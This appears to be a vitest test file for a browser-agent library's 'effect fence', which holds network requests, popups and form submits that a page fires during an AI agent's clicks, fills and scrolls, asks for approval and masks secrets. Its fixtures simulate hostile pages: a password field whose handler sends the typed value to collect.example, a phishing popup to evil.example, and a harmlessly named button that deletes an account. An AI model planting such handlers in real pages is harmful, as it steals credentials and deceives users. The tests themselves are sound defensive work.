// @vitest-environment happy-dom
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  activate,
  createLookTools,
  createRefRegistry,
  fenceEffects,
  fill,
  outlinePage,
  outsideFence,
  renderOutline,
  type EffectStep,
  createPageTools,
} from '../../src/dom/index.js';
import { ValidationError } from '../../src/errors.js';
import { lineOf, refIn } from './fixtures.js';

/*
 * The effect fence in happy-dom: the page's own network stands in as recorders put where the
 * browser's functions are (fetch, window.open, XMLHttpRequest's send, sendBeacon, a form's native
 * submit), so a test sees exactly what left the page and what the page's code got back. Real
 * navigations, redirects and downloads are in e2e/effects.spec.ts (Chromium).
 */

const QUICK = { settleMs: 20, maxMs: 1000 };

interface Sent {
  kind: 'fetch' | 'xhr' | 'beacon' | 'open' | 'submit';
  method?: string;
  url: string;
  body?: unknown;
}

let sent: Sent[];
let undo: Array<() => void>;

/** Puts `value` at `target[key]` for this test (as a data property), and puts back what was there after it. */
function put(target: object, key: string, value: unknown): void {
  const before = Object.getOwnPropertyDescriptor(target, key);
  Object.defineProperty(target, key, { value, writable: true, configurable: true });
  undo.push(() => (before ? Object.defineProperty(target, key, before) : delete (target as Record<string, unknown>)[key]));
}

beforeEach(() => {
  sent = [];
  undo = [];
  put(window, 'fetch', async (input: RequestInfo | URL, init?: RequestInit) => {
    sent.push({ kind: 'fetch', method: String(init?.method ?? 'GET').toUpperCase(), url: new URL(String(input), location.href).href, body: init?.body });
    return new Response('{"ok":true}', { status: 200, headers: { 'content-type': 'application/json' } });
  });
  put(window, 'open', (url?: string) => {
    sent.push({ kind: 'open', url: String(url) });
    return null;
  });
  put(XMLHttpRequest.prototype, 'send', function (this: XMLHttpRequest, body?: unknown) {
    sent.push({ kind: 'xhr', url: 'xhr', body });
    this.dispatchEvent(new ProgressEvent('load'));
  });
  put(Navigator.prototype, 'sendBeacon', (url: string, body?: unknown) => {
    sent.push({ kind: 'beacon', url: new URL(url, location.href).href, body });
    return true;
  });
  put(HTMLFormElement.prototype, 'submit', function (this: HTMLFormElement) {
    sent.push({
      kind: 'submit',
      method: (this.getAttribute('method') ?? 'get').toUpperCase(),
      url: new URL(this.getAttribute('action') ?? '', location.href).href,
    });
  });
});

afterEach(() => {
  for (const step of undo.reverse()) step();
  document.body.replaceChildren();
});

/** A yes that records what it was asked. */
function yes(asked: EffectStep[]) {
  return (step: EffectStep) => (asked.push(step), { approved: true });
}

describe('fenceEffects', () => {
  it('refuses times it cannot wait by (NaN, negative, not a number) with a typed error, before the work runs, and so do the tools that fence', async () => {
    let ran = false;
    for (const bad of [{ maxMs: Number.NaN, settleMs: Number.NaN }, { settleMs: -1 }, { maxMs: '3000' as unknown as number }]) {
      const attempt = fenceEffects(() => {
        ran = true;
      }, bad);
      await expect(attempt).rejects.toSatisfy(
        (error: unknown) =>
          ValidationError.isInstance(error) && /fenceEffects: (settleMs|maxMs) must be a number of milliseconds/.test((error as Error).message),
      );
    }
    expect(ran).toBe(false);
    expect(() => createPageTools({ settleMs: -5 })).toThrow(/createPageTools: settleMs must be a number of milliseconds, 0 or more, not -5/);
    expect(() => createLookTools({ settleMs: Number.POSITIVE_INFINITY })).toThrow(/createLookTools: settleMs/);
  });

  it('holds a script fetch that writes: without anyone to ask it never leaves, the page sees a network error, and the model is told', async () => {
    let pageSaw = '';
    const { stopped, effects } = await fenceEffects(
      () => {
        fetch('/api/account', { method: 'DELETE' }).then(
          () => (pageSaw = 'response'),
          (error: unknown) => (pageSaw = (error as Error).name),
        );
      },
      { ...QUICK, action: 'Click the button "Check name"' },
    );
    expect(sent).toEqual([]);
    expect(pageSaw).toBe('TypeError');
    expect(effects).toMatchObject([
      { kind: 'request', method: 'DELETE', outcome: 'stopped', words: 'It sends a DELETE to /api/account', consequence: 'delete' },
    ]);
    expect(stopped).toBe(
      'The page then tried to send a DELETE to /api/account (stopped: nobody here can approve it). It did not happen; do not try it again another way.',
    );
  });

  it('asks in words that name the effect, and a yes sends it as the page made it (the page gets the real response)', async () => {
    const asked: EffectStep[] = [];
    let body: unknown;
    await fenceEffects(
      () => {
        void fetch('/api/transfer', { method: 'POST', body: JSON.stringify({ iban: 'DE89370400440532013000', amount: 4900 }) })
          .then((response) => response.json())
          .then((json) => (body = json));
      },
      { ...QUICK, action: 'Click the button "Check name"', confirm: yes(asked) },
    );
    // The IBAN is a value: never in the words, only the field names.
    expect(asked).toEqual([
      {
        risk: 'irreversible',
        detail: 'Click the button "Check name". It sends a POST to /api/transfer: iban, amount.',
        url: 'http://localhost:3000/api/transfer',
        effect: 'It sends a POST to /api/transfer: iban, amount',
        consequence: 'send',
      },
    ]);
    expect(sent).toMatchObject([{ kind: 'fetch', method: 'POST', url: 'http://localhost:3000/api/transfer' }]);
    expect(body).toEqual({ ok: true });
  });

  it('lets reads pass unasked (a GET of this site, or of a read origin the host names) and holds a GET to another site', async () => {
    const asked: EffectStep[] = [];
    const { effects } = await fenceEffects(
      () => {
        for (const url of ['/api/me', 'https://api.example.com/prices', 'https://tracker.example/pixel?u=1']) fetch(url).catch(() => undefined);
      },
      { ...QUICK, readOrigins: ['https://api.example.com'], confirm: (step) => (asked.push(step), { approved: false, reason: 'not part of the task' }) },
    );
    expect(sent.map((request) => request.url)).toEqual(['http://localhost:3000/api/me', 'https://api.example.com/prices']);
    expect(asked.map((step) => step.effect)).toEqual(['It sends a GET to tracker.example/pixel?u=1']);
    expect(effects).toMatchObject([{ outcome: 'stopped', reason: 'not part of the task' }]);
  });

  it('holds XMLHttpRequest and sendBeacon: a no fails the request as a network error would, a yes sends it', async () => {
    const events: string[] = [];
    const no = await fenceEffects(
      () => {
        const request = new XMLHttpRequest();
        request.open('POST', '/api/upgrade');
        request.addEventListener('error', () => events.push(`error ${request.status}`));
        request.addEventListener('load', () => events.push('load'));
        request.send(new URLSearchParams({ plan: 'pro' }));
        navigator.sendBeacon('/api/analytics', 'viewed');
      },
      { ...QUICK, confirm: () => ({ approved: false }) },
    );
    expect(sent).toEqual([]);
    expect(events).toEqual(['error 0']);
    expect(no.effects.map((effect) => `${effect.kind}: ${effect.words}`)).toEqual([
      'request: It sends a POST to /api/upgrade: plan',
      'beacon: It sends a beacon (a POST) to /api/analytics',
    ]);
    expect(no.stopped).toContain('the user did not approve it');

    const asked: EffectStep[] = [];
    await fenceEffects(
      () => {
        const request = new XMLHttpRequest();
        request.open('POST', '/api/upgrade');
        request.addEventListener('load', () => events.push('load'));
        request.send('plan=pro');
        navigator.sendBeacon('/api/analytics', 'viewed');
      },
      { ...QUICK, confirm: yes(asked) },
    );
    expect(sent.map((request) => request.kind)).toEqual(['xhr', 'beacon']);
    expect(events).toEqual(['error 0', 'load']);
    expect(asked).toHaveLength(2);
  });

  it('holds window.open: the page gets null (as under a popup blocker); another site is stopped unasked unless allowed, then asked', async () => {
    const asked: EffectStep[] = [];
    let returned: unknown = 'not called';
    const blocked = await fenceEffects(() => (returned = window.open('https://evil.example/phish', '_blank')), { ...QUICK, confirm: yes(asked) });
    expect(returned).toBeNull();
    expect(asked).toEqual([]);
    expect(sent).toEqual([]);
    expect(blocked.stopped).toMatch(/^The page then tried to open a new window with evil\.example\/phish \(stopped: .*other/);

    await fenceEffects(() => window.open('https://docs.example.com/start'), { ...QUICK, allowedOrigins: ['https://docs.example.com'], confirm: yes(asked) });
    expect(asked.map((step) => [step.effect, step.consequence])).toEqual([['It opens a new window with docs.example.com/start', 'new-window']]);
    expect(sent).toEqual([{ kind: 'open', url: 'https://docs.example.com/start' }]);
  });

  it('holds every form: form.submit() from a timer after the work returned, requestSubmit(), and a submitter whose formaction goes elsewhere', async () => {
    document.body.innerHTML = `<main>
      <form id="pay" action="/api/transfer" method="post">
        <h2 hidden>Update display name</h2>
        <fieldset><legend>Payments</legend>
          <label>Recipient IBAN <input name="iban" value="DE89370400440532013000"></label>
          <label>Amount <input name="amount" value="4900"></label>
          <input type="hidden" name="csrf" value="x">
        </fieldset>
        <button id="save">Save</button>
        <button id="other" formaction="/api/account/delete">Save draft</button>
      </form></main>`;
    const form = document.getElementById('pay') as HTMLFormElement;
    const asked: EffectStep[] = [];
    const confirm = (step: EffectStep) => (asked.push(step), { approved: false });
    const late = await fenceEffects(() => void setTimeout(() => form.submit(), 50), { ...QUICK, confirm });
    await fenceEffects(() => form.requestSubmit(), { ...QUICK, confirm });
    await fenceEffects(() => (document.getElementById('other') as HTMLButtonElement).click(), { ...QUICK, confirm });
    expect(sent).toEqual([]);
    // Named by its visible legend (never the hidden heading); the fields by their labels, never their values; the real destination.
    expect(asked.map((step) => step.effect)).toEqual([
      'It sends the form "Payments" to /api/transfer: Recipient IBAN, Amount and 1 hidden field',
      'It sends the form "Payments" to /api/transfer: Recipient IBAN, Amount and 1 hidden field',
      'It sends the form "Payments" to /api/account/delete: Recipient IBAN, Amount and 1 hidden field',
    ]);
    expect(late.effects).toMatchObject([{ kind: 'form', method: 'POST', outcome: 'stopped' }]);
    for (const step of asked) expect(JSON.stringify(step)).not.toMatch(/DE89|4900|Update display name/);

    // A yes sends it as the submitter would have: to its formaction.
    await fenceEffects(() => (document.getElementById('other') as HTMLButtonElement).click(), { ...QUICK, confirm: () => ({ approved: true }) });
    expect(sent).toEqual([{ kind: 'submit', method: 'POST', url: 'http://localhost:3000/api/account/delete' }]);
    expect(form.getAttribute('action')).toBe('/api/transfer');
  });

  it('puts back every global it patched, exactly, and only when the last of nested fences closes', async () => {
    const watched: Array<[object, string]> = [
      [window, 'fetch'],
      [window, 'open'],
      [window, 'setTimeout'],
      [window, 'setInterval'],
      [window, 'clearTimeout'],
      [window, 'queueMicrotask'],
      [XMLHttpRequest.prototype, 'open'],
      [XMLHttpRequest.prototype, 'send'],
      [Navigator.prototype, 'sendBeacon'],
      [HTMLFormElement.prototype, 'submit'],
    ];
    const snapshot = () => watched.map(([target, key]) => Object.getOwnPropertyDescriptor(target, key));
    const before = snapshot();
    const outer: EffectStep[] = [];
    const inner: EffectStep[] = [];
    let between: unknown[] = [];
    await fenceEffects(
      async () => {
        expect(window.fetch).not.toBe(before[0]?.value);
        await fenceEffects(() => void fetch('/api/inner', { method: 'POST' }), { ...QUICK, confirm: yes(inner) });
        // The inner fence closed; the outer one still holds.
        between = snapshot().map((descriptor) => descriptor?.value);
        void fetch('/api/outer', { method: 'POST' });
      },
      { ...QUICK, confirm: yes(outer) },
    );
    expect(inner.map((step) => step.effect)).toEqual(['It sends a POST to /api/inner']);
    expect(outer.map((step) => step.effect)).toEqual(['It sends a POST to /api/outer']);
    expect(between[0]).not.toBe(before[0]?.value);
    expect(snapshot()).toEqual(before);
    // Outside every fence, the page's functions run untouched.
    await fetch('/api/after', { method: 'POST' });
    expect(sent.map((request) => request.url.replace('http://localhost:3000', ''))).toEqual(['/api/inner', '/api/outer', '/api/after']);
  });

  it('stops, unasked, what a late timer of an action sets off after the fence closed, and tells the host', async () => {
    const late: string[] = [];
    const asked: EffectStep[] = [];
    await fenceEffects(() => void setTimeout(() => fetch('/api/late', { method: 'POST' }).catch(() => undefined), 120), {
      settleMs: 10,
      maxMs: 30,
      confirm: yes(asked),
      onLate: (effect) => late.push(`${effect.what}: ${effect.reason}`),
    });
    // The next action's fence is open when the timer fires: it is still not that action's effect.
    const next = await fenceEffects(() => undefined, { settleMs: 200, confirm: yes(asked) });
    expect(late).toEqual(['send a POST to /api/late: it came from the action after it had ended, when no one could be asked']);
    expect(asked).toEqual([]);
    expect(next.effects).toEqual([]);
    expect(sent).toEqual([]);
  });

  it('in read mode stops every held effect unasked; outsideFence lets the host send its own', async () => {
    const asked: EffectStep[] = [];
    const read = await fenceEffects(
      () => {
        fetch('/api/mark-all-read', { method: 'POST' }).catch(() => undefined);
        outsideFence(() => void fetch('/audit', { method: 'POST' }));
      },
      { ...QUICK, mode: 'read', confirm: yes(asked) },
    );
    expect(asked).toEqual([]);
    expect(read.stopped).toContain('a look (scroll, expand, read) must never change anything');
    expect(sent.map((request) => request.url)).toEqual(['http://localhost:3000/audit']);
  });
});

describe('the fence around page actions', () => {
  function outline(html: string) {
    document.body.innerHTML = html;
    const registry = createRefRegistry();
    const text = renderOutline(outlinePage({ registry }));
    return { registry, ref: (name: string) => refIn(lineOf(text, name)) };
  }

  it('activate: a type=button whose handler DELETEs asks first by its name, then about the DELETE; a no cancels it and says so', async () => {
    const { registry, ref } = outline(
      '<main><button type="button" id="del">Check display name</button><button type="button" id="gone">Delete account now</button></main>',
    );
    document.getElementById('del')?.addEventListener('click', () => void fetch('/api/account', { method: 'DELETE' }).catch(() => undefined));
    const asked: EffectStep[] = [];
    const result = await activate(ref('Check display name'), {
      registry,
      ...QUICK,
      confirm: (step) => (asked.push(step as EffectStep), { approved: false, reason: 'the task is only to check the name' }),
    });
    expect(asked.map((step) => step.detail)).toEqual(['Click the button "Check display name". It sends a DELETE to /api/account.']);
    expect(result).toMatchObject({ ok: false, reason: 'denied' });
    expect(!result.ok && result.message).toContain('The page then tried to send a DELETE to /api/account (stopped: the task is only to check the name)');
    expect(sent).toEqual([]);

    // A consequential name asks before anything runs, in words from the page.
    const clicked: string[] = [];
    document.getElementById('gone')?.addEventListener('click', () => clicked.push('gone'));
    const before: EffectStep[] = [];
    const refused = await activate(ref('Delete account now'), {
      registry,
      ...QUICK,
      confirm: (step) => (before.push(step as EffectStep), { approved: false }),
    });
    expect(before).toMatchObject([
      {
        risk: 'irreversible',
        detail: 'Click the button "Delete account now". Its name says it closes an account, which may not be undone.',
        consequence: 'close-account',
      },
    ]);
    expect(refused).toMatchObject({ ok: false, reason: 'denied' });
    expect(clicked).toEqual([]);
  });

  it('fill: a select whose change handler submits its form is held; without confirm it is stopped and the result says so', async () => {
    const { registry, ref } = outline(`<main><form id="order" action="/order" method="post"><h2>Order</h2>
      <label>Shipping <select name="shipping"><option>Standard</option><option value="x">Express</option></select></label></form></main>`);
    document.querySelector('select')?.addEventListener('change', (event) => (event.target as HTMLSelectElement).form?.requestSubmit());
    const stopped = await fill(ref('Shipping'), 'Express', { registry, ...QUICK });
    expect(stopped).toMatchObject({ ok: false, reason: 'effect-stopped' });
    expect(!stopped.ok && stopped.message).toContain('The page then tried to send the form "Order" to /order: Shipping (stopped: nobody here can approve it)');
    const asked: EffectStep[] = [];
    await fill(ref('Shipping'), 'Standard', { registry, ...QUICK, confirm: (step) => (asked.push(step), { approved: true }) });
    expect(asked.map((step) => step.detail)).toEqual(['Choose "Standard" in the list "Shipping". It sends the form "Order" to /order: Shipping.']);
    expect(sent).toMatchObject([{ kind: 'submit', url: 'http://localhost:3000/order' }]);
  });

  it('crossing with the secret rule: what a secret field holds never shows in an effect’s words, its URL or what the model reads', async () => {
    const { registry, ref } = outline(`<main><form><h2>Sign in</h2><label>Password <input type="password" id="pw" name="pw"></label>
      <label>Card number <input id="card" name="card"></label></form></main>`);
    // A page that sends what is typed, in the URL, to another site, under a key that does not say "password".
    document
      .getElementById('pw')
      ?.addEventListener(
        'input',
        (event) => void fetch(`https://collect.example/c?q=${encodeURIComponent((event.target as HTMLInputElement).value)}`).catch(() => undefined),
      );
    document
      .getElementById('card')
      ?.addEventListener(
        'change',
        (event) => void fetch('/api/check', { method: 'POST', body: `{"n":"${(event.target as HTMLInputElement).value}"}` }).catch(() => undefined),
      );
    const asked: EffectStep[] = [];
    const confirm = (step: EffectStep) => (asked.push(step), { approved: false });
    const typed = await fill(ref('Password'), '{{secret:password}}', { registry, ...QUICK, secrets: { password: 'correct horse battery' }, confirm });
    const card = await fill(ref('Card number'), '{{secret:card}}', { registry, ...QUICK, secrets: { card: '4242 4242 4242 4242' }, confirm });
    const everything = JSON.stringify([asked, typed, card]);
    expect(asked.map((step) => step.effect)).toEqual(['It sends a GET to collect.example/c?q=[secret]', 'It sends a POST to /api/check: n']);
    expect(asked[0]?.url).toBe('https://collect.example/c?q=[secret]');
    expect(asked[0]?.detail).toBe('Type a saved secret into the field "Password". It sends a GET to collect.example/c?q=[secret].');
    for (const secret of ['correct', 'horse', '4242']) expect(everything).not.toContain(secret);
    expect(sent).toEqual([]);
  });

  it('crossing with a look tool: a scroll that makes the page write is a refusal, never a silent write, and nobody is asked', async () => {
    document.body.innerHTML = `<main><h1>Inbox</h1>${'<p>message</p>'.repeat(40)}<div id="sentinel">end</div></main>`;
    // happy-dom scrolls without a scroll event; a browser fires one on its next frame, as this does.
    for (const key of ['scroll', 'scrollTo', 'scrollBy'] as const) {
      const real = window[key] as (...args: unknown[]) => void;
      put(window, key, (...args: unknown[]) => {
        real(...args);
        setTimeout(() => window.dispatchEvent(new Event('scroll')), 16);
      });
    }
    let scrolled = 0;
    window.addEventListener('scroll', () => {
      scrolled += 1;
      void fetch('/api/mark-all-read', { method: 'POST' }).catch(() => undefined);
    });
    const tools = createLookTools({ settleMs: 20 });
    await expect(tools.scroll.run({ to: 'bottom' })).rejects.toThrow(
      'Scrolling made the page try to change something, so it was refused. The page then tried to send a POST to /api/mark-all-read (stopped: a look (scroll, expand, read) must never change anything).',
    );
    expect(scrolled).toBeGreaterThan(0);
    expect(sent).toEqual([]);
  });
});
